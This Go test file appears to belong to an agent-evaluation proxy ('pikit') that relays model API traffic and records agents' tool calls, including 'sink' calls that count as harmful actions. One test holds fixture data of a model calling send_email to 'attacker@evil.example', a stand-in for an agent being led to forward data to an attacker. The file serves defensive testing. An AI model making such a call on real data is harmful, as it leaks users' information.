package proxy

import (
	"bufio"
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/pikit-go/pikit/target"
)

// TestUpstreamErrorRelayed: an error status of the model API reaches the
// agent as it was sent (so the agent's SDK retries as it would), and the
// session records it.
func TestUpstreamErrorRelayed(t *testing.T) {
	cases := []struct {
		name   string
		status int
		header map[string]string
		body   string
	}{
		{"rate limited", http.StatusTooManyRequests, map[string]string{"Retry-After": "7", "X-Ratelimit-Remaining-Requests": "0"},
			`{"error":{"message":"Rate limit reached for gpt-test","type":"requests","code":"rate_limit_exceeded"}}`},
		{"server error", http.StatusInternalServerError, map[string]string{"X-Request-Id": "req_500"},
			`{"error":{"message":"The server had an error while processing your request.","type":"server_error"}}`},
		{"overloaded", 529, map[string]string{"Retry-After": "1"},
			`{"type":"error","error":{"type":"overloaded_error","message":"Overloaded"}}`},
	}
	for _, w := range wires {
		for _, tc := range cases {
			for _, stream := range []bool{false, true} {
				name := w.name + "/" + tc.name
				if stream {
					name += "/stream"
				}
				t.Run(name, func(t *testing.T) {
					up := newUpstream(t, func(rw http.ResponseWriter, _ *http.Request, _ int, _ []byte) {
						for k, v := range tc.header {
							rw.Header().Set(k, v)
						}
						rw.Header().Set("Content-Type", "application/json")
						rw.WriteHeader(tc.status)
						io.WriteString(rw, tc.body)
					})
					srv, hs := newProxy(t, w.upstreamBase(up.URL))
					s := mustOpen(t, srv, "err", newDrive(w.spec), sinkRules())
					resp, body, err := post(t, w.baseFor(hs.URL, "err")+w.agentPath, w.encode(w.model, stream, []msg{{role: "user", text: userText}}), nil)
					if err != nil {
						t.Fatal(err)
					}
					if resp.StatusCode != tc.status || string(body) != tc.body {
						t.Errorf("the agent got %d %s, want %d %s", resp.StatusCode, body, tc.status, tc.body)
					}
					for k, v := range tc.header {
						if got := resp.Header.Get(k); got != v {
							t.Errorf("header %s: %q, want %q", k, got, v)
						}
					}
					errs := s.Errors()
					if len(errs) != 1 || !strings.Contains(errs[0], "upstream answered") || !strings.Contains(errs[0], strconv.Itoa(tc.status)) {
						t.Errorf("session errors %q", errs)
					}
					tr := s.Trace()
					if stepKinds(tr) != "user modelx" || !strings.Contains(tr.Steps[1].Error, "upstream answered") {
						t.Errorf("steps %s: %+v", stepKinds(tr), tr.Steps)
					}
				})
			}
		}
	}
}

// breakAfter answers with the chunks of a stream up to and including the
// one that holds mark, then drops the connection without ending the
// response.
func breakAfter(t testing.TB, chunks [][]byte, mark string) func(http.ResponseWriter, *http.Request, int, []byte) {
	return func(rw http.ResponseWriter, _ *http.Request, _ int, _ []byte) {
		rw.Header().Set("Content-Type", "text/event-stream")
		rw.WriteHeader(http.StatusOK)
		for _, c := range chunks {
			rw.Write(c)
			rw.(http.Flusher).Flush()
			if bytes.Contains(c, []byte(mark)) {
				break
			}
		}
		conn, _, err := http.NewResponseController(rw).Hijack()
		if err != nil {
			t.Error(err)
			return
		}
		conn.Close()
	}
}

// upTo is the chunks up to and including the one that holds mark.
func upTo(chunks [][]byte, mark string) []byte {
	var out []byte
	for _, c := range chunks {
		out = append(out, c...)
		if bytes.Contains(c, []byte(mark)) {
			break
		}
	}
	return out
}

// TestUpstreamBreaksMidStream: when the model API drops the connection
// mid-stream, the agent sees an aborted response (not a clean end it could
// take for a whole answer), and the session records the error and keeps
// what it had read.
func TestUpstreamBreaksMidStream(t *testing.T) {
	cases := []struct {
		wire, mark string
		text       string
		calls      []string
		sinkCalls  int
	}{
		// The sink call is complete when the stream breaks: the model
		// asked for it.
		{"chat", `dy\": \"Forwarded thread\"}`, "Forwarding now.", []string{"send_email"}, 1},
		// The call's item never finished, but its arguments did: the call
		// the model was making is kept, as in the other formats.
		{"responses", `"type":"response.function_call_arguments.done"`, "Forwarding now.", []string{"send_email"}, 1},
		{"anthropic", `"type":"content_block_stop","index":1`, "Forwarding now.", []string{"send_email"}, 1},
	}
	for _, tc := range cases {
		t.Run(tc.wire, func(t *testing.T) {
			w := wireNamed(tc.wire)
			chunks := sseChunks(fixture(t, tc.wire, "sink", true))
			up := newUpstream(t, breakAfter(t, chunks, tc.mark))
			srv, hs := newProxy(t, w.upstreamBase(up.URL))
			s := mustOpen(t, srv, "broken", newDrive(w.spec), sinkRules())
			resp, body, err := post(t, w.baseFor(hs.URL, "broken")+w.agentPath, w.encode(w.model, true, []msg{{role: "user", text: userText}}), nil)
			if resp == nil {
				t.Fatal(err)
			}
			if !errors.Is(err, io.ErrUnexpectedEOF) {
				t.Errorf("the agent read the broken stream to %v, want an unexpected EOF", err)
			}
			if want := upTo(chunks, tc.mark); !bytes.Equal(body, want) {
				t.Errorf("the agent got\n%s\nwant the chunks before the break\n%s", body, want)
			}
			tr := s.Trace()
			if stepKinds(tr) != "user modelx"+strings.Repeat(" tool!", tc.sinkCalls) {
				t.Fatalf("steps %s: %+v", stepKinds(tr), tr.Steps)
			}
			m := tr.Steps[1]
			if !strings.Contains(m.Error, "broke off") || m.Text != tc.text {
				t.Errorf("model step: error %q, text %q; want a broken stream with text %q", m.Error, m.Text, tc.text)
			}
			var names []string
			for _, c := range m.ToolCalls {
				names = append(names, c.Name)
			}
			if strings.Join(names, ",") != strings.Join(tc.calls, ",") || len(tr.SinkCalls) != tc.sinkCalls {
				t.Errorf("calls %v, sink calls %+v; want %v", names, tr.SinkCalls, tc.calls)
			}
			if errs := s.Errors(); len(errs) != 1 || !strings.Contains(errs[0], "broke off") {
				t.Errorf("session errors %q", errs)
			}
		})
	}
}

// TestUpstreamBreaksMidAnswer: a whole answer cut short is an error too.
func TestUpstreamBreaksMidAnswer(t *testing.T) {
	w := wireNamed("chat")
	whole := fixture(t, "chat", "sink", false)
	up := newUpstream(t, func(rw http.ResponseWriter, _ *http.Request, _ int, _ []byte) {
		rw.Header().Set("Content-Type", "application/json")
		rw.Header().Set("Content-Length", "100000")
		rw.WriteHeader(http.StatusOK)
		rw.Write(whole[:40])
		rw.(http.Flusher).Flush()
		conn, _, err := http.NewResponseController(rw).Hijack()
		if err != nil {
			t.Error(err)
			return
		}
		conn.Close()
	})
	srv, hs := newProxy(t, w.upstreamBase(up.URL))
	s := mustOpen(t, srv, "cut", newDrive(w.spec), sinkRules())
	// The proxy cannot send the headers it has not flushed: the agent's
	// request fails, or the body it began to read does.
	_, _, err := post(t, w.baseFor(hs.URL, "cut")+w.agentPath, w.encode(w.model, false, []msg{{role: "user", text: userText}}), nil)
	if !errors.Is(err, io.ErrUnexpectedEOF) && !errors.Is(err, io.EOF) {
		t.Errorf("the agent read a cut answer to %v, want an aborted answer", err)
	}
	if errs := s.Errors(); len(errs) != 1 || !strings.Contains(errs[0], "broke off") {
		t.Errorf("session errors %q", errs)
	}
	if tr := s.Trace(); len(tr.SinkCalls) != 0 || tr.ModelCalls != 0 {
		t.Errorf("a cut answer was read: %+v", tr)
	}
}

// TestUpstreamUnreachable: the agent gets a 502 with an error both OpenAI
// and Anthropic clients read.
func TestUpstreamUnreachable(t *testing.T) {
	dead := httptest.NewServer(http.NotFoundHandler())
	dead.Close()
	for _, w := range wires {
		t.Run(w.name, func(t *testing.T) {
			srv, hs := newProxy(t, w.upstreamBase(dead.URL))
			s := mustOpen(t, srv, "dead", newDrive(w.spec), sinkRules())
			resp, body, err := post(t, w.baseFor(hs.URL, "dead")+w.agentPath, w.encode(w.model, true, []msg{{role: "user", text: userText}}), nil)
			if err != nil {
				t.Fatal(err)
			}
			var e struct {
				Type  string `json:"type"`
				Error struct {
					Type    string `json:"type"`
					Message string `json:"message"`
				} `json:"error"`
			}
			if resp.StatusCode != http.StatusBadGateway || resp.Header.Get("Content-Type") != "application/json" || json.Unmarshal(body, &e) != nil ||
				e.Type != "error" || !strings.Contains(e.Error.Message, "upstream unreachable") {
				t.Errorf("%d %s %s", resp.StatusCode, resp.Header.Get("Content-Type"), body)
			}
			if errs := s.Errors(); len(errs) != 1 || !strings.Contains(errs[0], "upstream unreachable") {
				t.Errorf("session errors %q", errs)
			}
		})
	}
}

// TestCredentials: the agent's credentials and the session header never
// reach the upstream; the upstream gets pikit's key from the environment,
// in the header its API reads, or none.
func TestCredentials(t *testing.T) {
	cases := []struct {
		wire, env, key string
		wantHeader     string // the header that must carry the key
		want           string
	}{
		{"chat", "OPENAI_API_KEY", "sk-pikit-test", "Authorization", "Bearer sk-pikit-test"},
		{"responses", "OPENAI_API_KEY", "sk-pikit-test", "Authorization", "Bearer sk-pikit-test"},
		{"chat", "OPENAI_API_KEY", "", "", ""},
		{"anthropic", "ANTHROPIC_API_KEY", "sk-ant-pikit-test", "X-Api-Key", "sk-ant-pikit-test"},
		{"anthropic", "ANTHROPIC_API_KEY", "", "", ""},
	}
	for _, tc := range cases {
		t.Run(tc.wire+"/"+tc.env+"="+tc.key, func(t *testing.T) {
			t.Setenv("OPENAI_API_KEY", "")
			t.Setenv("ANTHROPIC_API_KEY", "")
			t.Setenv(tc.env, tc.key)
			w := wireNamed(tc.wire)
			up := newUpstream(t, scripted(t, tc.wire, nil, "final"))
			srv, hs := newProxy(t, w.upstreamBase(up.URL))
			s := mustOpen(t, srv, "creds", newDrive(w.spec), sinkRules())
			hdr := http.Header{}
			hdr.Set("Authorization", "Bearer agent-secret")
			hdr.Set("X-Api-Key", "agent-secret")
			hdr.Set("Api-Key", "agent-secret")
			// Credentials of other kinds, and ones that would be sent
			// beside pikit's key (an organisation or project it does not
			// belong to).
			for _, h := range []string{"Cookie", "OpenAI-Organization", "OpenAI-Project", "X-Goog-Api-Key", "Proxy-Authorization",
				"X-Auth-Token", "X-Amz-Security-Token", "Ocp-Apim-Subscription-Key", "Cf-Access-Client-Secret"} {
				hdr.Set(h, "agent-secret")
			}
			hdr.Set("Idempotency-Key", "stainless-retry-1")
			hdr.Set(SessionHeader, "creds") // the session by header, not by path
			hdr.Set("Anthropic-Version", "2023-06-01")
			hdr.Set("OpenAI-Beta", "responses=v1")
			// The agent's base URL without /s/{id}: only the header says
			// which session it is.
			url := hs.URL + "/v1" + strings.TrimPrefix(w.agentPath, "/v1")
			resp, body, err := post(t, url, w.encode(w.model, false, []msg{{role: "user", text: userText}}), hdr)
			if err != nil || resp.StatusCode != http.StatusOK {
				t.Fatalf("%v %v %s", resp, err, body)
			}
			got := up.requests()[0]
			if got.Path != w.upPath {
				t.Errorf("path %q, want %q", got.Path, w.upPath)
			}
			for k, vs := range got.Header {
				for _, v := range vs {
					if strings.Contains(v, "agent-secret") {
						t.Errorf("the agent's credential reached the upstream in %s", k)
					}
				}
			}
			if got.Header.Get(SessionHeader) != "" {
				t.Errorf("%s reached the upstream", SessionHeader)
			}
			for _, h := range []string{"Authorization", "X-Api-Key", "Api-Key"} {
				want := ""
				if h == tc.wantHeader {
					want = tc.want
				}
				if g := got.Header.Get(h); g != want {
					t.Errorf("upstream %s: %q, want %q", h, g, want)
				}
			}
			if got.Header.Get("Anthropic-Version") != "2023-06-01" || got.Header.Get("Openai-Beta") != "responses=v1" || got.Header.Get("Idempotency-Key") != "stainless-retry-1" {
				t.Errorf("the agent's API headers were not forwarded: %v", got.Header)
			}
			if tc.key != "" {
				tr, _ := json.Marshal(s.Trace())
				if bytes.Contains(tr, []byte(tc.key)) {
					t.Error("the key is in the trace")
				}
			}
		})
	}
}

// TestUpstreamPath: how the agent's path maps onto the upstream's base
// URL, wherever that comes from.
func TestUpstreamPath(t *testing.T) {
	cases := []struct {
		name     string
		spec     string
		base     string // Server.BaseURL after the upstream's address
		opt      string // the config's base_url option after the address
		env      string // OPENAI_BASE_URL after the address
		method   string
		path     string // after the proxy's address
		wantPath string
		wantQry  string
	}{
		{name: "openai base ends in /v1", spec: "openai:gpt-test", base: "/v1", path: "/s/ID/v1/chat/completions", wantPath: "/v1/chat/completions"},
		{name: "openai base with a slash", spec: "openai:gpt-test", base: "/v1/", path: "/s/ID/v1/responses", wantPath: "/v1/responses"},
		{name: "openai gateway prefix", spec: "openai:gpt-test", base: "/gateway/openai/v1", path: "/s/ID/v1/chat/completions", wantPath: "/gateway/openai/v1/chat/completions"},
		{name: "anthropic base", spec: "anthropic:claude-test", base: "", path: "/s/ID/v1/messages", wantPath: "/v1/messages"},
		{name: "anthropic gateway prefix", spec: "anthropic:claude-test", base: "/anthropic", path: "/s/ID/v1/messages", wantPath: "/anthropic/v1/messages"},
		{name: "openai-compatible chat on anthropic", spec: "anthropic:claude-test", base: "", path: "/s/ID/v1/chat/completions", wantPath: "/v1/chat/completions"},
		{name: "query kept", spec: "openai:gpt-test", base: "/v1", path: "/s/ID/v1/chat/completions?api-version=2024-10-21", wantPath: "/v1/chat/completions", wantQry: "api-version=2024-10-21"},
		{name: "base URL query kept", spec: "openai:gpt-test", base: "/v1?api-version=2024-10-21", path: "/s/ID/v1/chat/completions", wantPath: "/v1/chat/completions", wantQry: "api-version=2024-10-21"},
		{name: "both queries", spec: "openai:gpt-test", base: "/v1?api-version=2024-10-21", path: "/s/ID/v1/chat/completions?trace=1", wantPath: "/v1/chat/completions", wantQry: "api-version=2024-10-21&trace=1"},
		{name: "base_url option", spec: "openai:gpt-test", opt: "/opt/v1", path: "/s/ID/v1/chat/completions", wantPath: "/opt/v1/chat/completions"},
		{name: "base URL variable", spec: "openai:gpt-test", env: "/env/v1", path: "/s/ID/v1/chat/completions", wantPath: "/env/v1/chat/completions"},
		{name: "passed through", spec: "openai:gpt-test", base: "/v1", method: http.MethodGet, path: "/s/ID/v1/models", wantPath: "/v1/models"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			up := newUpstream(t, func(rw http.ResponseWriter, _ *http.Request, _ int, _ []byte) {
				writeWhole(rw, []byte(`{}`))
			})
			t.Setenv("OPENAI_BASE_URL", "")
			if tc.env != "" {
				t.Setenv("OPENAI_BASE_URL", up.URL+tc.env)
			}
			base := ""
			if tc.base != "" || (tc.opt == "" && tc.env == "") {
				base = up.URL + tc.base
			}
			srv, hs := newProxy(t, base)
			d := newDrive(tc.spec)
			if tc.opt != "" {
				d.Cell.Config.TargetOpts = map[string]any{"base_url": up.URL + tc.opt}
			}
			mustOpen(t, srv, "ID", d, sinkRules())
			method := tc.method
			if method == "" {
				method = http.MethodPost
			}
			var body io.Reader = strings.NewReader(`{"model":"m","messages":[]}`)
			if method == http.MethodGet {
				body = nil
			}
			req, _ := http.NewRequest(method, hs.URL+tc.path, body)
			resp, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			reqs := up.requests()
			if len(reqs) != 1 || reqs[0].Path != tc.wantPath || reqs[0].Query != tc.wantQry || reqs[0].Method != method {
				t.Fatalf("upstream got %+v, want %s %s?%s", reqs, method, tc.wantPath, tc.wantQry)
			}
		})
	}
}

// TestModelOverride: a target spec's model replaces the agent's; a spec
// without one leaves the request as the agent sent it, byte for byte.
func TestModelOverride(t *testing.T) {
	for _, tc := range []struct{ spec, want string }{
		{"openai:gpt-test", "gpt-test"},
		{"openai", "gpt-agent"},
		{"anthropic:claude-test", "claude-test"},
	} {
		t.Run(tc.spec, func(t *testing.T) {
			up := newUpstream(t, func(rw http.ResponseWriter, _ *http.Request, _ int, _ []byte) { writeWhole(rw, []byte(`{}`)) })
			srv, hs := newProxy(t, up.URL+"/v1")
			mustOpen(t, srv, "m", newDrive(tc.spec), sinkRules())
			body := []byte(`{"model": "gpt-agent", "messages": [{"role": "user", "content": "hi <b>&</b>"}], "temperature": 0.10000000000000001}`)
			if _, _, err := post(t, hs.URL+"/s/m/v1/chat/completions", body, nil); err != nil {
				t.Fatal(err)
			}
			got := up.requests()[0].Body
			var m struct{ Model string }
			if err := json.Unmarshal(got, &m); err != nil || m.Model != tc.want {
				t.Errorf("upstream model %q, want %q (%v)", m.Model, tc.want, err)
			}
			if tc.want == "gpt-agent" && !bytes.Equal(got, body) {
				t.Errorf("an untouched request was re-encoded:\n%s\nwant\n%s", got, body)
			}
			if tc.want != "gpt-agent" && (!bytes.Contains(got, []byte(`"hi <b>&</b>"`)) || !bytes.Contains(got, []byte(`0.10000000000000001`))) {
				t.Errorf("re-encoding changed the text or a number: %s", got)
			}
		})
	}
}

// TestSpendOffline: an offline target counts its own requests (Drive.Target
// is the runner's counting target); the proxy reports only what it
// forwarded.
func TestSpendOffline(t *testing.T) {
	w := wireNamed("chat")
	_, hs := newProxy(t, "")
	srv := hs.Config.Handler.(*Server)
	d := offlineDrive()
	var spent int
	d.Spend = func(int64, int64) { spent++ }
	s := mustOpen(t, srv, "off", d, sinkRules())
	answers, err := runAgent(t.Context(), http.DefaultClient, w, w.baseFor(hs.URL, "off")+w.agentPath, false, nil)
	if err != nil {
		t.Fatal(err)
	}
	if tr := s.Trace(); tr.ModelCalls != len(answers) || spent != 0 {
		t.Errorf("%d model calls, spent %d times; want %d, 0", tr.ModelCalls, spent, len(answers))
	}
}

// TestOverlongStreamEventIsAnError: an event too long to read is relayed
// to the agent whole, and the trace says the proxy could not read it,
// while the events around it are read.
func TestOverlongStreamEventIsAnError(t *testing.T) {
	huge := strings.Repeat("x", maxEventBytes+10)
	up := newUpstream(t, func(rw http.ResponseWriter, _ *http.Request, _ int, _ []byte) {
		rw.Header().Set("Content-Type", "text/event-stream")
		io.WriteString(rw, `data: {"choices":[{"index":0,"delta":{"content":"before "}}]}`+"\n\n")
		io.WriteString(rw, `data: {"choices":[{"index":0,"delta":{"content":"`+huge+`"}}]}`+"\n\n")
		io.WriteString(rw, `data: {"choices":[{"index":0,"delta":{"content":"after"}}]}`+"\n\ndata: [DONE]\n\n")
	})
	srv, hs := newProxy(t, up.URL+"/v1")
	s := mustOpen(t, srv, "ID", newDrive("openai:gpt-test"), sinkRules())
	resp, body, err := post(t, hs.URL+"/s/ID/v1/chat/completions", []byte(`{"model":"m","stream":true,"messages":[{"role":"user","content":"hi"}]}`), nil)
	if err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("%v %v", resp, err)
	}
	if !strings.Contains(string(body), huge) {
		t.Error("the long event did not reach the agent whole")
	}
	tr := s.Trace()
	if stepKinds(tr) != "user modelx" {
		t.Fatalf("steps %s", stepKinds(tr))
	}
	last := tr.Steps[1]
	if last.Text != "before after" || !strings.Contains(last.Error, "relayed to the agent but not read") {
		t.Fatalf("model step text %q error %q", last.Text, last.Error)
	}
}

// TestResponsesStreamBrokenInsideACall: a Responses stream that breaks
// while a function call's arguments are still coming shows the call the
// model was making (with the arguments so far).
func TestResponsesStreamBrokenInsideACall(t *testing.T) {
	s := responsesFormat{}.newStream()
	ev := func(typ, data string) { s.event(typ, []byte(data)) }
	ev("response.output_item.added", `{"type":"response.output_item.added","item":{"type":"function_call","id":"fc_1","call_id":"call_1","name":"send_email","arguments":""}}`)
	ev("response.function_call_arguments.delta", `{"type":"response.function_call_arguments.delta","item_id":"fc_1","delta":"{\"to\": \"attacker@"}`)
	ev("response.function_call_arguments.delta", `{"type":"response.function_call_arguments.delta","item_id":"fc_1","delta":"evil.example\"}"}`)
	r := s.reply()
	if len(r.calls) != 1 || r.calls[0].Name != "send_email" || r.calls[0].ID != "call_1" || r.calls[0].Arguments != `{"to": "attacker@evil.example"}` {
		t.Fatalf("calls %+v", r.calls)
	}
	// Once done, the call comes from its item, once.
	ev("response.output_item.done", `{"type":"response.output_item.done","item":{"type":"function_call","id":"fc_1","call_id":"call_1","name":"send_email","arguments":"{\"to\": \"attacker@evil.example\"}"}}`)
	if r = s.reply(); len(r.calls) != 1 {
		t.Fatalf("after done: %+v", r.calls)
	}
}

// resettingUpstream is a model API on a raw TCP listener that answers
// the first request of each connection (keeping the connection open, as
// a keep-alive server does) and resets the connection on any later
// request, with no byte of an answer: a local model server that dropped
// an idle connection the proxy had kept. With everyRequest it resets
// every request, a first one too.
type resettingUpstream struct {
	ln       net.Listener
	answered atomic.Int32
	reset    atomic.Int32
}

func newResettingUpstream(t *testing.T, answer []byte, everyRequest bool) *resettingUpstream {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	u := &resettingUpstream{ln: ln}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go u.serve(c, answer, everyRequest)
		}
	}()
	return u
}

func (u *resettingUpstream) serve(c net.Conn, answer []byte, everyRequest bool) {
	defer c.Close()
	br := bufio.NewReader(c)
	for n := 0; ; n++ {
		req, err := http.ReadRequest(br)
		if err != nil {
			return
		}
		io.Copy(io.Discard, req.Body)
		if n > 0 || everyRequest {
			u.reset.Add(1)
			c.(*net.TCPConn).SetLinger(0) // a reset, not a clean close
			return
		}
		u.answered.Add(1)
		fmt.Fprintf(c, "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", len(answer), answer)
	}
}

// TestResetIdleConnectionRetried: an upstream that reset a kept-alive
// connection before answering a byte gets the request again, once, on a
// new connection: the agent's second request succeeds. A request whose
// new connection is reset is not sent again.
func TestResetIdleConnectionRetried(t *testing.T) {
	w := wireNamed("chat")
	answer := fixture(t, "chat", "final", false)
	body := w.encode(w.model, false, []msg{{role: "user", text: userText}})

	up := newResettingUpstream(t, answer, false)
	srv, hs := newProxy(t, "http://"+up.ln.Addr().String()+"/v1")
	s := mustOpen(t, srv, "kept", newDrive(w.spec), sinkRules())
	for i := range 4 {
		resp, got, err := post(t, w.baseFor(hs.URL, "kept")+w.agentPath, body, nil)
		if err != nil || resp.StatusCode != http.StatusOK || !bytes.Equal(got, answer) {
			t.Fatalf("request %d: %v %v: %s", i+1, resp, err, got)
		}
	}
	if errs := s.Errors(); len(errs) != 0 {
		t.Errorf("session errors %q", errs)
	}
	// 1 on a new connection, kept; 2 on it, reset, then sent again on a
	// connection of its own; 3 on a new one, kept; 4 as 2.
	if a, r := up.answered.Load(), up.reset.Load(); a != 4 || r != 2 {
		t.Errorf("the upstream answered %d requests and reset %d; want 4 and 2", a, r)
	}

	// A request sent again is a second request of the run's budget: with
	// none left, it is not sent again, and the agent is told why.
	up = newResettingUpstream(t, answer, false)
	srv, hs = newProxy(t, "http://"+up.ln.Addr().String()+"/v1")
	d := newDrive(w.spec)
	budget := &testBudget{left: 2}
	d.Target = budget
	s = mustOpen(t, srv, "budget", d, sinkRules())
	if resp, got, err := post(t, w.baseFor(hs.URL, "budget")+w.agentPath, body, nil); err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("first request: %v %v: %s", resp, err, got)
	}
	resp, got, err := post(t, w.baseFor(hs.URL, "budget")+w.agentPath, body, nil)
	if err != nil || resp.StatusCode != http.StatusTooManyRequests || !strings.Contains(string(got), "budget spent") || !strings.Contains(string(got), "dropped") {
		t.Errorf("second request, reset, with the budget spent: %v %v: %s; want 429 saying why", resp, err, got)
	}
	if a, r, left := up.answered.Load(), up.reset.Load(), budget.remaining(); a != 1 || r != 1 || left != 0 {
		t.Errorf("the upstream answered %d and reset %d, %d left of the budget; want 1, 1, 0", a, r, left)
	}
	if errs := s.Errors(); len(errs) != 1 || !strings.Contains(errs[0], "429") {
		t.Errorf("session errors %q", errs)
	}

	// An upstream that resets fresh connections too: one attempt, the
	// agent told.
	bad := newResettingUpstream(t, answer, true)
	srv, hs = newProxy(t, "http://"+bad.ln.Addr().String()+"/v1")
	s = mustOpen(t, srv, "reset", newDrive(w.spec), sinkRules())
	resp, got, err = post(t, w.baseFor(hs.URL, "reset")+w.agentPath, body, nil)
	if err != nil || resp.StatusCode != http.StatusBadGateway || !strings.Contains(string(got), "upstream unreachable") {
		t.Fatalf("%v %v: %s, want 502 upstream unreachable", resp, err, got)
	}
	if r := bad.reset.Load(); r != 1 {
		t.Errorf("a request reset on a new connection was sent %d times, want 1", r)
	}
}

// testBudget is a cell's target that is also its share of a budget (as
// matrix gives a driven cell) admitting left requests. It answers no
// request itself.
type testBudget struct {
	target.Target
	mu   sync.Mutex
	left int
}

func (b *testBudget) Take() error {
	b.mu.Lock()
	defer b.mu.Unlock()
	if b.left == 0 {
		return errors.New("test budget spent")
	}
	b.left--
	return nil
}

func (b *testBudget) Give() {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.left++
}

func (b *testBudget) remaining() int {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.left
}
